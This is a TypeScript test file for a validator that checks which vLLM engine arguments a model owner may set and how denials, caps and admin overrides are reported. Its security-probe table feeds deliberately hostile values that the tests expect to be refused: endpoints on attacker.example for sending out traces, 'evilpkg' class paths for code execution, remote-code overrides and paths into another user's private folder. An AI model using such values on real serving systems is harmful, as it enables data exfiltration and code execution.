import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import catalog from "../../schemas/vllm-engine-args.json";
import { bare, clusterText, specText } from "../test-fixtures/helpers";
import { KWARG_POLICY, kwargPolicy, kwargsOfClass, type KwargClass } from "./engine-kwargs-policy";
import { BUILT_IN_DENIED_KWARGS, CAPPED_KWARGS, PLATFORM_KWARGS } from "./engine-kwargs";
import { validateRepo } from "./validate";

const CLASSES: readonly KwargClass[] = ["platform", "denied", "capped", "safe"];

describe("KWARG_POLICY", () => {
  it("gives every argument of the catalog exactly one class, and names no other argument", () => {
    const catalogKeys = Object.keys(catalog.args);
    expect(catalogKeys).toHaveLength(catalog.counts.total_entries);
    for (const key of catalogKeys) expect(CLASSES, key).toContain(kwargPolicy(key)?.class);
    expect(Object.keys(KWARG_POLICY)).toEqual(catalogKeys);
    expect(CLASSES.flatMap(kwargsOfClass).sort()).toEqual([...catalogKeys].sort());
  });

  it("says why for each platform key and each denial, and caps with a finite positive maximum", () => {
    for (const [key, p] of Object.entries(KWARG_POLICY)) {
      if (p.class === "platform" || p.class === "denied") expect(p.why.length, key).toBeGreaterThan(10);
      if (p.class === "capped") {
        expect(Number.isFinite(p.max) && p.max > 0, key).toBe(true);
        expect(["number", "integer"], key).toContain(catalog.args[key as keyof typeof catalog.args].type);
      }
    }
  });

  it("derives the platform keys, the built-in deny list and the caps from the table", () => {
    expect(Object.keys(PLATFORM_KWARGS)).toEqual(kwargsOfClass("platform"));
    expect(BUILT_IN_DENIED_KWARGS).toEqual(kwargsOfClass("denied"));
    expect(CAPPED_KWARGS).toEqual(["swap_space", "mm_processor_cache_gb", "mm_shm_cache_max_object_size_mb"]);
    expect(PLATFORM_KWARGS["tensor_parallel_size"]).toBe("set gpus_per_replica instead");
  });

  it("keeps every entry of the former built-in deny list denied, but allowed_media_domains, which only narrows", () => {
    expect(kwargPolicy("allowed_media_domains")?.class).toBe("safe");
    for (const key of [
      "worker_extension_cls",
      "worker_cls",
      "trust_remote_code",
      "download_dir",
      "hf_token",
      "hf_overrides",
      "load_format",
      "model_loader_extra_config",
      "allowed_local_media_path",
      "logits_processors",
    ])
      expect(kwargPolicy(key)?.class, key).toBe("denied");
  });

  it.each([
    "max_model_len",
    "gpu_memory_utilization",
    "max_num_seqs",
    "max_num_batched_tokens",
    "dtype",
    "enforce_eager",
    "quantization",
    "kv_cache_dtype",
    "enable_prefix_caching",
    "enable_chunked_prefill",
    "reasoning_parser",
    "override_generation_config",
  ])("leaves the tuning knob %s to the owner", (key) => {
    expect(kwargPolicy(key)?.class).toBe("safe");
  });

  it("knows nothing of names outside the catalog, Object.prototype's included", () => {
    for (const key of ["constructor", "toString", "__proto__", "max_model_lenght"])
      expect(kwargPolicy(key)).toBeUndefined();
  });
});

/** One spec of alice's with these engine_kwargs on the fixture's h1, with h1's cluster.yaml given. */
const validateKwargs = (engine_kwargs: Record<string, unknown>, cluster?: Record<string, unknown>) =>
  validateRepo(
    bare({
      ...(cluster ? { "clusters/h1/cluster.yaml": clusterText({ default: true, ...cluster }) } : {}),
      "models/alice/t.yaml": specText("t", { engine_kwargs }),
    }),
  ).diagnostics;

describe("the security probe's engine_kwargs are refused with E403, saying why and how an admin lifts it", () => {
  const LIFT = "only an admin can lift it, with engine_kwargs.allow in clusters/h1/cluster.yaml";
  it.each<[string, string, unknown, RegExp]>([
    [
      "a draft model in another user's folder",
      "speculative_config",
      { model: "/private/users/bob/secret-finetune", num_speculative_tokens: 3 },
      /names a draft model \(a path or Hugging Face repo, outside model_source's confinement\)/,
    ],
    [
      "a draft model downloaded from the hub where the cluster forbids hub sources",
      "speculative_config",
      { model: "attacker-org/any-draft-model" },
      /names a draft model/,
    ],
    [
      "a model config in another user's folder",
      "hf_config_path",
      "/private/users/bob/secret-finetune",
      /model config from, outside model_source's confinement/,
    ],
    [
      "a generation config in another user's folder",
      "generation_config",
      "/private/users/bob/secret-finetune",
      /generation config from, outside model_source's confinement/,
    ],
    [
      "LoRA adapters in another user's folder",
      "default_mm_loras",
      { image: "/private/users/bob/lora" },
      /LoRA adapters, outside model_source's confinement/,
    ],
    [
      "a scheduler class from any module",
      "scheduler_cls",
      "evilpkg.sched.Sched",
      /names a Python class that vLLM imports \(code execution\)/,
    ],
    [
      "a KV connector module",
      "kv_transfer_config",
      { kv_connector: "Evil", kv_connector_module_path: "evilpkg.conn", kv_role: "kv_both" },
      /names a KV connector module to import and network peers \(code execution\)/,
    ],
    [
      "custom compiler passes",
      "compilation_config",
      { inductor_compile_config: { post_grad_custom_post_pass: "evilpkg.Pass" } },
      /custom compiler passes/,
    ],
    [
      "a reasoning parser plugin file",
      "structured_outputs_config",
      { reasoning_parser_plugin: "/private/users/bob/plugin.py" },
      /reasoning parser plugin file that vLLM executes/,
    ],
    [
      "an IO processor plugin",
      "io_processor_plugin",
      "evil",
      /names an IO processor plugin that vLLM loads \(code execution\)/,
    ],
    [
      "per-request logits processors",
      "logits_processor_pattern",
      ".*",
      /lets clients name logits processor classes/,
    ],
    [
      "an exfiltration endpoint for traces",
      "otlp_traces_endpoint",
      "http://attacker.example:4317",
      /sends every request's traces to a network endpoint/,
    ],
    [
      "a KV events publisher",
      "kv_events_config",
      { enable_kv_cache_events: true, endpoint: "tcp://attacker.example:5557" },
      /publishes KV cache events to a network endpoint/,
    ],
    [
      "overrides of the model config",
      "hf_overrides",
      { auto_map: { AutoConfig: "evil.Config" } },
      /auto_map \(remote code\)/,
    ],
    ["plugin settings", "additional_config", { anything: true }, /free-form settings to platform plugins/],
    [
      "loader options",
      "model_loader_extra_config",
      { s3_endpoint: "http://attacker.example" },
      /options to the model loader/,
    ],
    ["host RAM for offloaded weights", "cpu_offload_gb", 1e6, /offloads weights into host RAM/],
  ])("%s (%s)", (_, key, value, why) => {
    const diagnostics = validateKwargs({ [key]: value });
    expect(diagnostics.map((d) => [d.code, d.rule, d.line])).toEqual([["E403", "engine-kwarg-denied", 4]]);
    const [message] = diagnostics.map((d) => d.message);
    expect(message).toMatch(
      new RegExp(
        `^engine_kwargs\\.${key} is not allowed on cluster h1: it is on the platform's built-in deny list because it `,
      ),
    );
    expect(message).toMatch(why);
    expect(message).toContain(LIFT);
  });

  it("lets an admin lift one of them by name on one cluster", () => {
    const kwargs = { otlp_traces_endpoint: "http://otel.internal:4317", scheduler_cls: "x.Y" };
    expect(
      validateKwargs(kwargs, { engine_kwargs: { allow: ["otlp_traces_endpoint"] } }).map((d) => d.message),
    ).toEqual([expect.stringMatching(/^engine_kwargs\.scheduler_cls is not allowed on cluster h1/)]);
  });
});

describe("capped resource arguments", () => {
  it("accepts a value up to the cap and refuses one above it, naming the cap and how an admin lifts it", () => {
    expect(validateKwargs({ swap_space: 16, mm_processor_cache_gb: 0 })).toEqual([]);
    const diagnostics = validateKwargs({ swap_space: 1e6 });
    expect(diagnostics.map((d) => [d.code, d.rule, d.line, d.column])).toEqual([
      ["E400", "invalid-value", 4, 15],
    ]);
    expect(diagnostics[0]!.message).toBe(
      "engine_kwargs.swap_space may be at most 16 (GiB) on cluster h1: it is CPU swap space per GPU, and host RAM is shared with the other models on the node; only an admin can lift the cap, with engine_kwargs.allow in clusters/h1/cluster.yaml",
    );
  });

  it("reports a wrong type rather than the cap", () => {
    expect(validateKwargs({ swap_space: "lots" }).map((d) => d.rule)).toEqual(["engine-kwarg-type"]);
  });

  it("lifts the cap where a cluster.yaml allows the argument by name, without a warning", () => {
    expect(validateKwargs({ swap_space: 64 }, { engine_kwargs: { allow: ["swap_space"] } })).toEqual([]);
  });
});

describe("engine_kwargs.allow in cluster.yaml", () => {
  it("warns that a platform key cannot be lifted, saying who sets it", () => {
    const diagnostics = validateKwargs(
      {},
      { engine_kwargs: { allow: ["tensor_parallel_size", "scheduler_cls"] } },
    );
    expect(diagnostics.map((d) => [d.severity, d.rule, d.message])).toEqual([
      [
        "warning",
        "engine-kwarg-allow-unused",
        "engine_kwargs.allow lists `tensor_parallel_size`, which is neither on the built-in deny list nor capped, so it lifts nothing (the platform sets it, and no cluster can lift that: set gpus_per_replica instead)",
      ],
    ]);
  });
});

describe("the documentation", () => {
  const readme = readFileSync(new URL("../../README.md", import.meta.url), "utf8");
  const row = (field: string) => readme.split("\n").find((line) => line.startsWith(`| \`${field}\` |`)) ?? "";

  it("lists every built-in denial in the README's engine_kwargs.deny row, and nothing else as denied", () => {
    const listed = [...row("engine_kwargs.deny").matchAll(/`([a-z_]+)`/g)].map((m) => m[1]!);
    expect(listed.filter((name) => Object.hasOwn(catalog.args, name)).sort()).toEqual(
      [...BUILT_IN_DENIED_KWARGS].sort(),
    );
  });

  it("names every platform-owned argument in the README's engine_kwargs row (data_parallel_* as a family)", () => {
    const text = row("engine_kwargs");
    const platformList = text.slice(
      text.indexOf("platform-owned keys are refused"),
      text.indexOf("the built-in deny list"),
    );
    const named = new Set([...platformList.matchAll(/`([a-z_]+)`/g)].map((m) => m[1]!));
    const undocumented = Object.keys(PLATFORM_KWARGS).filter(
      (key) =>
        !named.has(key) &&
        !(key.startsWith("data_parallel_") && platformList.includes("the other `data_parallel_*`")),
    );
    expect(undocumented).toEqual([]);
  });

  it("states each cap in the README's engine_kwargs.allow row", () => {
    for (const key of CAPPED_KWARGS) {
      const p = KWARG_POLICY[key as keyof typeof KWARG_POLICY];
      if (p.class !== "capped") throw new Error(key);
      expect(row("engine_kwargs.allow")).toContain(`\`${key}\` ≤ ${p.max} ${p.unit}`);
    }
  });
});
